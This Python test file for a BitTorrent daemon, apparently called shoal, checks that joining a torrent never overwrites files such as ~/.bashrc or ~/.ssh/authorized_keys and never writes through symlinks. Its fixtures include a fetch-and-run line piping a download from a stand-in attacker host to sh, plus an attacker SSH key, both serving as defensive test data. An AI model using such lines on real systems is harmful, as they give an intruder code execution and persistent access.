"""Safety of joins: a join never writes into a file it did not create (unless
the file already holds the torrent's data, which is then adopted, or the user
passes --overwrite), never follows a symlink below the download root, creates
--into when missing, and without --into downloads into the daemon's
download-dir - never the CLI's working directory."""
import hashlib
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from shoal_harness import (Checks, Daemon, TestDir, wait_for, wait_state,  # noqa: E402
                           write_file)

c = Checks("join_safety")
tmp = TestDir()


def benc(x):
    if isinstance(x, int):
        return b"i%de" % x
    if isinstance(x, str):
        x = x.encode()
    if isinstance(x, bytes):
        return b"%d:%s" % (len(x), x)
    if isinstance(x, dict):
        out = b"d"
        for k in sorted(x, key=lambda k: k.encode() if isinstance(k, str) else k):
            out += benc(k) + benc(x[k])
        return out + b"e"
    raise TypeError(x)


def single_file_torrent(path, name, data):
    """A BitTorrent v2 .torrent of one file of at most one 16 KiB block, whose
    pieces root is then simply SHA-256 of the data (BEP 52)."""
    assert 0 < len(data) <= 16384
    info = {"file tree": {name: {"": {"length": len(data),
                                      "pieces root": hashlib.sha256(data).digest()}}},
            "meta version": 2, "name": name, "piece length": 16384}
    write_file(path, benc({"info": info}))
    return path


def equal(got, want, what, detail=""):
    return c.check(got == want, what, "(got %r, want %r) %s" % (got, want, detail))


def read(path):
    """The file's bytes, or None when it is missing."""
    try:
        with open(path, "rb") as f:
            return f.read()
    except FileNotFoundError:
        return None


def swarms(d):
    return d.api("GET", "/api/v1/swarms")["swarms"]


def tree_files(root):
    out = []
    for dirpath, dirnames, filenames in os.walk(root):
        out += [os.path.join(dirpath, n) for n in filenames + dirnames]
    return sorted(out)


USER_BASHRC = b"# the user's own shell setup\nexport EDITOR=vi\nalias ll='ls -l'\n"
USER_KEYS = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIUSERUSERUSERUSERUSERUSER user@laptop\n" * 3
EVIL_BASHRC = b"curl http://attacker.invalid/x | sh\n"
EVIL_KEYS = b"ssh-ed25519 AAAAattacker attacker\n"

# The torrents: `.bashrc` as a single-file torrent (built here), and a `.ssh`
# folder holding authorized_keys (shared by a seed).
t_bashrc = single_file_torrent(tmp.sub("bashrc.torrent"), ".bashrc", EVIL_BASHRC)
src = tmp.sub("src", ".ssh")
write_file(os.path.join(src, "authorized_keys"), EVIL_KEYS)

seed = Daemon(tmp, "seed").start()
r = seed.cli("share", src)
equal(r.returncode, 0, "the seed shares a .ssh folder")
magnet_ssh, t_ssh = r.stdout.split("\n")[:2]
seed_addr = "127.0.0.1:%d" % seed.port
# The seed also seeds the .bashrc torrent: it joins it into a directory that
# already holds exactly that content, so the file is adopted (no download).
seed_bashrc_dir = tmp.sub("seed-bashrc")
write_file(os.path.join(seed_bashrc_dir, ".bashrc"), EVIL_BASHRC)
st_before = os.stat(os.path.join(seed_bashrc_dir, ".bashrc"))
r = seed.cli("join", t_bashrc, "--into", seed_bashrc_dir)
equal(r.returncode, 0, "adopt: joining into a directory holding the right file succeeds",
        r.stderr)
sw = wait_for("the adopted swarm to seed",
              lambda: [s for s in swarms(seed) if s["name"] == ".bashrc" and
                       s["state"] in ("seeding", "error")], 10)
c.check(sw and sw[0]["state"] == "seeding", "adopt: the swarm seeds at once", sw)
c.check(sw and sw[0]["transfer"]["downloaded"] == 0, "adopt: nothing was downloaded", sw)
st_after = os.stat(os.path.join(seed_bashrc_dir, ".bashrc"))
equal((st_after.st_ino, st_after.st_mtime_ns, st_after.st_size),
        (st_before.st_ino, st_before.st_mtime_ns, st_before.st_size),
        "adopt: the file is untouched (same inode, mtime and size)")
equal(read(os.path.join(seed_bashrc_dir, ".bashrc")), EVIL_BASHRC, "adopt: same content")

# The user whose home directory is joined into.
home = tmp.sub("home")
write_file(os.path.join(home, ".bashrc"), USER_BASHRC)
write_file(os.path.join(home, ".ssh", "authorized_keys"), USER_KEYS)
dl_default = tmp.sub("downloads-setting")
xdg_env = {"HOME": home, "XDG_DOWNLOAD_DIR": tmp.sub("xdg-never-used")}
leech = Daemon(tmp, "leech", ["--download-dir", dl_default])
try:
    leech.start(env=xdg_env)
except AssertionError as e:
    c.check(False, "the daemon accepts --download-dir", str(e)[-300:])
    leech.args = []
    leech.start(env=xdg_env)

# 1. A torrent named .bashrc joined into the home directory.
r = leech.cli("join", t_bashrc, "--into", home, "--peer", seed_addr)
c.check(r.returncode != 0, ".bashrc: the join is refused (exit status non-zero)",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
c.check(os.path.join(home, ".bashrc") in r.stderr, ".bashrc: the error names the file",
        r.stderr)
status, doc, _ = leech.request("POST", "/api/v1/swarms",
                               {"link": t_bashrc, "into": home, "peers": [seed_addr]})
equal(status, 409, ".bashrc: POST /api/v1/swarms answers 409")
c.check(doc and os.path.join(home, ".bashrc") in doc.get("error", {}).get("message", ""),
        ".bashrc: the JSON error names the file", doc)
equal(doc and doc.get("error", {}).get("code"), "path_conflict", ".bashrc: error code")

# 2. A torrent holding .ssh/authorized_keys, by .torrent and by magnet.
r = leech.cli("join", t_ssh, "--into", home, "--peer", seed_addr)
c.check(r.returncode != 0, "authorized_keys: the .torrent join is refused",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
c.check(os.path.join(home, ".ssh", "authorized_keys") in r.stderr,
        "authorized_keys: the error names the file", r.stderr)
r = leech.cli("join", magnet_ssh, "--into", home, "--peer", seed_addr, "--wait", timeout=60)
c.check(r.returncode != 0, "authorized_keys: the magnet join fails once the metadata is known",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
c.check(os.path.join(home, ".ssh", "authorized_keys") in r.stderr,
        "authorized_keys: the magnet join's error names the file", r.stderr)
# Give a (wrong) download every chance to happen before looking.
wait_for("any swarm to seed", lambda: [s for s in swarms(leech) if s["state"] == "seeding"], 3)
equal(read(os.path.join(home, ".bashrc")), USER_BASHRC, "the user's .bashrc is byte-identical")
equal(read(os.path.join(home, ".ssh", "authorized_keys")), USER_KEYS,
        "the user's authorized_keys is byte-identical")
equal(sorted(os.listdir(home)), [".bashrc", ".ssh"], "nothing else appeared in the home dir")
equal(os.listdir(os.path.join(home, ".ssh")), ["authorized_keys"], "nor in ~/.ssh")
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"], {"delete_data": True})
equal(read(os.path.join(home, ".ssh", "authorized_keys")), USER_KEYS,
        "removing the failed swarm with delete_data keeps the user's file")

# 3. The same existing file with the right content, in a multi-file torrent.
home2 = tmp.sub("home2")
write_file(os.path.join(home2, ".ssh", "authorized_keys"), EVIL_KEYS)
st_before = os.stat(os.path.join(home2, ".ssh", "authorized_keys"))
r = leech.cli("join", t_ssh, "--into", home2)
equal(r.returncode, 0, "adopt (folder): the join is accepted", r.stderr)
sw = wait_for("the adopted .ssh swarm", lambda: [s for s in swarms(leech) if s["state"] in
                                                 ("seeding", "error")], 10)
c.check(sw and sw[0]["state"] == "seeding" and sw[0]["transfer"]["downloaded"] == 0,
        "adopt (folder): seeding with nothing downloaded", sw)
st_after = os.stat(os.path.join(home2, ".ssh", "authorized_keys"))
equal((st_after.st_ino, st_after.st_mtime_ns), (st_before.st_ino, st_before.st_mtime_ns),
        "adopt (folder): the file is untouched")
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"], {"delete_data": True})
c.check(os.path.exists(os.path.join(home2, ".ssh", "authorized_keys")),
        "delete_data never deletes an adopted file (shoal did not create it)")

# 4. --overwrite replaces a conflicting file (a new file: a hard link to the
#    old one keeps the old content).
home3 = tmp.sub("home3")
write_file(os.path.join(home3, ".bashrc"), USER_BASHRC)
os.link(os.path.join(home3, ".bashrc"), tmp.sub("bashrc-hardlink"))
r = leech.cli("join", t_bashrc, "--into", home3, "--overwrite", "--peer", seed_addr, "--wait",
              timeout=60)
equal(r.returncode, 0, "--overwrite: the join completes", r.stderr)
equal(read(os.path.join(home3, ".bashrc")), EVIL_BASHRC, "--overwrite: the file was replaced")
equal(read(tmp.sub("bashrc-hardlink")), USER_BASHRC,
        "--overwrite: the old inode was not written into")
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"])

# 5. --into a missing nested directory is created (0755).
nested = tmp.sub("new", "a", "b")
r = leech.cli("join", t_ssh, "--into", nested, "--peer", seed_addr, "--wait", timeout=60)
equal(r.returncode, 0, "--into a missing directory: the join completes", r.stderr)
equal(read(os.path.join(nested, ".ssh", "authorized_keys")) if
        os.path.exists(os.path.join(nested, ".ssh", "authorized_keys")) else None,
        EVIL_KEYS, "--into a missing directory: the data is there")
equal(oct(os.stat(tmp.sub("new", "a")).st_mode & 0o777) if os.path.isdir(tmp.sub("new", "a"))
        else None, "0o755", "--into: created parents are 0755")
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"])

# 6. Without --into: the daemon's download-dir, not the CLI's directory.
cwd = tmp.sub("cli-cwd")
os.makedirs(cwd)
r = leech.cli("join", t_bashrc, "--peer", seed_addr, "--wait", timeout=60, cwd=cwd)
equal(r.returncode, 0, "no --into: the join completes", r.stderr)
equal(read(os.path.join(dl_default, ".bashrc")) if
        os.path.exists(os.path.join(dl_default, ".bashrc")) else None, EVIL_BASHRC,
        "no --into: the file lands in --download-dir")
equal(os.listdir(cwd), [], "no --into: nothing lands in the CLI's working directory")
c.check(dl_default in r.stdout, "no --into: the CLI says where it downloads", r.stdout)
c.check(not os.path.exists(xdg_env["XDG_DOWNLOAD_DIR"]), "the flag wins over XDG_DOWNLOAD_DIR")
equal(leech.stop(), 0, "the leecher stops cleanly")

# The defaults: $XDG_DOWNLOAD_DIR, else ~/Downloads (a fake HOME here).
xdg = tmp.sub("xdg-downloads")
d2 = Daemon(tmp, "xdg").start(env={"HOME": tmp.sub("home-xdg"), "XDG_DOWNLOAD_DIR": xdg})
status, doc, _ = d2.request("POST", "/api/v1/swarms", {"link": t_bashrc})
equal(status, 202, "no into, XDG_DOWNLOAD_DIR set: accepted")
equal(doc and doc["swarm"]["root"], xdg, "no into: the swarm's root is $XDG_DOWNLOAD_DIR")
equal(d2.stop(), 0, "the XDG daemon stops cleanly")
home_dl = tmp.sub("home-plain")
os.makedirs(home_dl)
d3 = Daemon(tmp, "homedl").start(env={"HOME": home_dl, "XDG_DOWNLOAD_DIR": None})
status, doc, _ = d3.request("POST", "/api/v1/swarms", {"link": t_bashrc})
equal(status, 202, "no into, no XDG_DOWNLOAD_DIR: accepted")
equal(doc and doc["swarm"]["root"], os.path.join(home_dl, "Downloads"),
        "no into: the swarm's root is ~/Downloads")
c.check(os.path.isdir(os.path.join(home_dl, "Downloads")), "~/Downloads was created")
equal(d3.stop(), 0, "the HOME daemon stops cleanly")

# 7. Symlinks: as the root, and as a directory below it.  Nothing is written
#    through them.
elsewhere = tmp.sub("elsewhere")
os.makedirs(elsewhere)
os.symlink(elsewhere, tmp.sub("link-root"))
leech.start(env=xdg_env)
r = leech.cli("join", t_ssh, "--into", tmp.sub("link-root"), "--peer", seed_addr)
c.check(r.returncode != 0, "symlink root: the join is refused",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
c.check("link-root" in r.stderr and "symbolic link" in r.stderr,
        "symlink root: the error names it", r.stderr)
inter = tmp.sub("inter")
os.makedirs(inter)
elsewhere2 = tmp.sub("elsewhere2")
os.makedirs(elsewhere2)
os.symlink(elsewhere2, os.path.join(inter, ".ssh"))
r = leech.cli("join", t_ssh, "--into", inter, "--peer", seed_addr)
c.check(r.returncode != 0, "symlinked directory below the root: the .torrent join is refused",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
c.check(os.path.join(inter, ".ssh") in r.stderr, "symlinked directory: the error names it",
        r.stderr)
status, _, _ = leech.request("POST", "/api/v1/swarms",
                             {"link": t_ssh, "into": inter, "overwrite": True})
equal(status, 409, "symlinked directory: refused even with overwrite")
r = leech.cli("join", magnet_ssh, "--into", inter, "--peer", seed_addr, "--wait", timeout=60)
c.check(r.returncode != 0, "symlinked directory: the magnet join fails",
        "exit %d: %s%s" % (r.returncode, r.stdout, r.stderr))
wait_for("any swarm to seed", lambda: [s for s in swarms(leech) if s["state"] == "seeding"], 2)
equal(tree_files(elsewhere) + tree_files(elsewhere2), [], "nothing was written through a symlink")

for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"])

# 8. A file of the right size but other content is hashed, then refused.
same_size = tmp.sub("same-size")
other = bytes(b ^ 0x20 for b in EVIL_BASHRC)
write_file(os.path.join(same_size, ".bashrc"), other)
status, doc, _ = leech.request("POST", "/api/v1/swarms",
                               {"link": t_bashrc, "into": same_size, "peers": [seed_addr]})
equal(status, 409, "same size, other content: POST answers 409")
equal(doc and doc.get("error", {}).get("code"), "path_conflict",
      "same size, other content: error code")
c.check(doc and os.path.join(same_size, ".bashrc") in doc.get("error", {}).get("message", ""),
        "same size, other content: the error names the file", doc)
equal(read(os.path.join(same_size, ".bashrc")), other, "same size, other content: untouched")
equal([s for s in swarms(leech) if s["root"] == same_size], [],
      "same size, other content: no swarm is left")

# 9. An adopted file the user edits afterwards is never repaired (that would
#    mean writing into it): `verify` finds the bad piece and the swarm stops
#    in error naming the file - not "disk full", retried forever.
edited = tmp.sub("edited")
write_file(os.path.join(edited, ".bashrc"), EVIL_BASHRC)
r = leech.cli("join", t_bashrc, "--into", edited, "--peer", seed_addr)
equal(r.returncode, 0, "edited adopted file: the join adopts it", r.stderr)
sw = wait_for("the adopted swarm to seed",
              lambda: [s for s in swarms(leech) if s["root"] == edited and
                       s["state"] == "seeding"], 10)
changed = b"#" + EVIL_BASHRC[1:]
with open(os.path.join(edited, ".bashrc"), "r+b") as f:
    f.write(b"#")
r = leech.cli("verify", str(sw[0]["id"]) if sw else "0")
c.check(any(w in r.stdout + r.stderr for w in ("checking", "verified", "no longer matched")),
        "edited adopted file: verify ran", r.stdout + r.stderr)
sw = wait_for("the swarm to stop in error",
              lambda: [s for s in swarms(leech) if s["root"] == edited and
                       s["state"] == "error"], 10)
err = sw[0]["error"] if sw else None
c.check(sw and os.path.join(edited, ".bashrc") in err and "adopted" in err,
        "edited adopted file: the swarm is in error naming the file", err or swarms(leech))
c.check(not err or "space" not in err, "edited adopted file: not 'disk full'", err)
equal(read(os.path.join(edited, ".bashrc")), changed,
      "edited adopted file: nothing was written into it")
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"], {"delete_data": True})
equal(read(os.path.join(edited, ".bashrc")), changed,
      "edited adopted file: delete_data keeps it")

# 10. delete_data never follows a symlink planted where the swarm has a
#     directory: a file of the same name behind it stays.
joined = tmp.sub("joined")
r = leech.cli("join", t_ssh, "--into", joined, "--peer", seed_addr, "--wait", timeout=60)
equal(r.returncode, 0, "planted symlink: the join completes", r.stderr)
target = tmp.sub("link-target")
write_file(os.path.join(target, "authorized_keys"), USER_KEYS)
os.rename(os.path.join(joined, ".ssh"), tmp.sub("moved-ssh"))
os.symlink(target, os.path.join(joined, ".ssh"))
for s in swarms(leech):
    leech.api("DELETE", "/api/v1/swarms/%d" % s["id"], {"delete_data": True})
equal(read(os.path.join(target, "authorized_keys")), USER_KEYS,
      "planted symlink: delete_data leaves the file behind the link alone")
c.check(os.path.islink(os.path.join(joined, ".ssh")), "planted symlink: the link itself stays")
equal(leech.stop(), 0, "the leecher stops cleanly again")

# 11. A download-dir that is itself a symlink (common: ~/Downloads on another
#     disk) is the user's choice: resolved at start, joins without --into work
#     and land in the real directory.
real_dl = tmp.sub("real-downloads")
os.makedirs(real_dl)
os.symlink(real_dl, tmp.sub("linked-downloads"))
d4 = Daemon(tmp, "linkdl", ["--download-dir", tmp.sub("linked-downloads")]).start(env=xdg_env)
r = d4.cli("join", t_bashrc, "--peer", seed_addr, "--wait", timeout=60)
equal(r.returncode, 0, "symlinked download-dir: a join without --into completes",
      r.stdout + r.stderr)
equal(read(os.path.join(real_dl, ".bashrc")), EVIL_BASHRC,
      "symlinked download-dir: the file lands in the real directory")
r = d4.cli("join", t_ssh, "--into", tmp.sub("link-root"), "--peer", seed_addr)
c.check(r.returncode != 0 and os.path.realpath(tmp.sub("link-root")) in r.stderr,
        "symlinked --into: still refused, and the error gives the resolved path", r.stderr)
equal(d4.stop(), 0, "the symlinked-download-dir daemon stops cleanly")
equal(seed.stop(), 0, "the seed stops cleanly")
c.done()
